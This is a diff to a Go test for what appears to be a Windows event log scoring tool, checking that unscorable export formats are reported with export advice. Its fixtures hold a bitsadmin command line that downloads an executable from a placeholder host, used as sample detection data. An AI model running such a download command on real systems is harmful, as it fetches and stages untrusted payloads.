@@ -344,8 +344,8 @@ func TestExportCsvTypeLineIsSkipped(t *testing.T) {
 }
 
 // Exports that keep only the rendered message of each event cannot be
-// scored soundly, and some others hold no Windows event record: score says
-// what they are and how to export instead, and exits 2.
+// scored soundly, and ECS process events hold no Windows event record:
+// score says what they are and how to export instead, and exits 2.
 func TestUnscorableExportsAreNamed(t *testing.T) {
 	lines := fixtureFileLines(t, jsonFixture)
 	var events []winevent.Event
@@ -396,7 +396,6 @@ func TestUnscorableExportsAreNamed(t *testing.T) {
 		"Get-WinEvent | ConvertTo-Json": {[]byte("[\r\n" + strings.Join(psJSON, ",\r\n") + "\r\n]"), "Get-WinEvent export"},
 		"Event Viewer, Save as CSV":     {[]byte(viewer.String()), `Event Viewer "Save as CSV/Text"`},
 		"Event Viewer, Save as Text":    {[]byte(strings.ReplaceAll(viewer.String(), ",", "\t")), `Event Viewer "Save as CSV/Text"`},
-		"Elasticsearch search response": {[]byte(`{"took":1,"hits":{"total":{"value":1},"hits":[{"_id":"1","_source":{"winlog":{"event_id":"4688","event_data":{"CommandLine":"bitsadmin /transfer j http://x/a.exe c:\\temp\\a.exe"}}}}]}}`), "jq -c '.hits.hits[]'"},
 		"ECS process events, no winlog": {[]byte(`{"@timestamp":"2020-10-23T02:36:43Z","event":{"category":["process"]},"process":{"command_line":"bitsadmin /transfer j http://x/a.exe c:\\temp\\a.exe"}}`), "not a Windows event log record"},
 	} {
 		t.Run(name, func(t *testing.T) {
